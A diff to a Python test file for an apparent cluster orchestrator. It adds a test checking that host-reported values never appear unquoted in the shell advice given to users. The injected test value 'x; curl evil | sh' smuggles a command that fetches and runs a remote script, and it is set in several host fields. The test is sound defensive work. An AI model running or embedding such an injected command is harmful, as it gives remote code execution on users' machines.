@@ -1,6 +1,7 @@
 from __future__ import annotations
 
 import ipaddress
+import re
 from dataclasses import replace
 from typing import Any
 
@@ -8,7 +9,7 @@ import msgspec
 import pytest
 
 from orchestrator import wire
-from orchestrator.checks import Needs, Seen, of_hosts, of_pairs
+from orchestrator.checks import Needs, Seen, of_hosts, of_network, of_pairs
 from orchestrator.checks.addresses import disturbed, of_addresses
 from orchestrator.checks.pings import of_pings
 from orchestrator.events import CheckReported, Level, PairReported
@@ -128,7 +129,12 @@ ALONE: list[tuple[dict[str, Any], tuple[str, Level, str], str, str]] = [
         "tf_keras==2.21.*",
     ),
     ({"facts__rsync": None}, ("rsync", W, "not installed"), "tar stream", "apt install rsync"),
-    ({"hello__state_error": STATE_ERROR}, ("state", F, "the state folder is on NFS"), "no locks", "`state`"),
+    (
+        {"hello__state_error": STATE_ERROR},
+        ("state", F, "cannot be used"),
+        "the host says: the state folder is on NFS\nno locks",
+        "`state`",
+    ),
     (
         {"facts__disk__workdir__writable": False, "facts__disk__workdir__error": "Read-only file system"},
         ("workdir", F, "/home/t/o cannot be written"),
@@ -498,3 +504,38 @@ def test_an_address_is_read_once_however_many_hosts_have_it(monkeypatch: pytest.
     assert {(check.check, check.level, check.found) for check in found} == {("address", Level.OK, "eth0")}
     assert not disturbed(hosts, pairs)
     assert len(read) <= 60 + len(bridges)
+
+
+EVIL = "x; curl evil | sh"
+MORE = [{"name": "ib0", "ip": "10.1.0.1"}, {"name": "ib1", "ip": "10.2.0.1"}]
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {
+            "facts__python": {"path": EVIL, "version": "3.11.2", "ok": True, "error": ""},
+            "facts__packages": {},
+        },
+        {"hello__user": EVIL, "facts__kill_user_processes": True},
+        {"hello__state_error": {"what": "x", "hint": EVIL}},
+        {"host__address": "10.0.0.9", "facts__interfaces": [{"name": "eth0", "ip": EVIL}]},
+        {"host__address": "10.0.0.9", "facts__interfaces": [{"name": "eth0", "ip": f"10.0.0.7%{EVIL}"}]},
+        {"host__address": "10.0.0.9", "facts__interfaces": [{"name": EVIL, "ip": "10.0.0.7"}]},
+        {"host__address": "localhost", "facts__ip": [f"8.8.8.8%{EVIL}", EVIL]},
+        {"facts__gpus": GPUS, "facts__interfaces": [{"name": EVIL, "ip": "10.0.0.1"}, *MORE]},
+    ],
+)
+def test_what_a_host_says_never_stands_bare_in_what_we_advise(changes: dict[str, Any]) -> None:
+    """Whoever copies the line after `try:` runs it on a machine of theirs."""
+    two = [seen("gpu-01", **changes), seen("gpu-02")]
+    address = two[0].host.address
+    pairs = [
+        PairReported("gpu-02", "gpu-01", f"{address}:2222", False, None, False, None, "refused", address),
+        PairReported("gpu-01", "gpu-02", "10.0.0.2:2222", True, 0.1, True, 0.1, "", "10.0.0.2"),
+        PairReported("gpu-01", "gpu-01", f"{address}:2222", True, 0.1, True, 0.1, "", address),
+    ]
+    checks = [*of_hosts(two, NEEDS), *of_network(two, pairs)]
+    assert any(check.level is not Level.OK for check in checks)
+    hints = [check.hint for check in checks if "evil" in check.hint]
+    assert all("curl" not in re.sub(r"'[^']*'", "", hint) for hint in hints), hints
